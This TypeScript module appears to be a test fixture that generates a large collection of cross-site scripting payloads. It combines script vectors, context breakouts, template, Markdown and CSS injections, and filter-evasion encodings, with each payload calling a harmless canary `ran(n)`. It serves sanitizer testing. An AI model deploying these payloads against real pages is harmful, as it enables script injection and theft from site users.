// Texts that would run a script if a page took them for anything but text: ways to run one, times
// the places to break out of, times the ways to write it. Each calls `ran` with its own number.
// Knows no page.

/** What runs; `call` is the script, without quotes or spaces. */
const vectors: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>top.${call}</script>"></iframe>`,
  (call) => `<iframe src=javascript:top.${call}></iframe>`,
  (call) => `<object data=javascript:${call}></object>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<form action=javascript:${call}><button>x</button></form>`,
  (call) => `<meta http-equiv=refresh content=0;url=javascript:${call}>`,
  (call) => `<base href=javascript:${call}/>`,
  (call) => `<style>@import'https://elsewhere.example/${call}'</style>`,
  (call) => `<x tabindex=1 autofocus onfocus=${call}>`,
]

/** What a page may have put before it, and has to be closed first. */
const breakouts: readonly string[] = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--></style>',
  '"}]}</script>',
]

/** Where no tag is needed: addresses, templates, Markdown, JSON, styles, scripts. */
const tagless: readonly ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%=${call}%>`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `"onmouseover="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `';${call};//`,
  (call) => `"-${call}-"`,
  (call) => `\`-${call}-\``,
  (call) => `*/${call}/*`,
  (call) => `expression(${call})`,
  (call) => `url("javascript:${call}")`,
  (call) => `__proto__[${call}]`,
]

/** Ways to write a tag that a filter may pass over and a page may still read. */
const writings: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replace(/<(\w+)/, (tag) => tag.toUpperCase()),
  (text) => text.replace(/<(\w)/, '<\u200b$1'),
  (text) => `\u202e${text}`,
  (text) => text.replace(' ', '/'),
  (text) => text.replace(' ', '\n'),
]

/** All of them; the one at `n` calls `ran(n)`. Each is short enough for a title. */
export const payloads: readonly string[] = [
  ...breakouts.flatMap((before) =>
    vectors.map((vector) => (call: string) => before + vector(call)),
  ),
  ...tagless,
  ...writings.flatMap((write) =>
    vectors.slice(1, 8).map((vector) => (call: string) => write(vector(call))),
  ),
].map((make, n) => make(`ran(${n})`))

/** Without what no single line can hold. */
export const oneLine = (text: string): string => text.replaceAll(/[\p{Cc}\u2028\u2029]/gu, ' ')

/** As many texts of at most `most` characters as hold every payload, each whole. */
export const pack = (texts: readonly string[], most: number): string[] => {
  const packed: string[] = []
  for (const text of texts) {
    const last = packed.at(-1)
    const joined = last === undefined ? text : `${last} ${text}`
    if (last === undefined || joined.length > most) packed.push(text)
    else packed[packed.length - 1] = joined
  }
  return packed
}
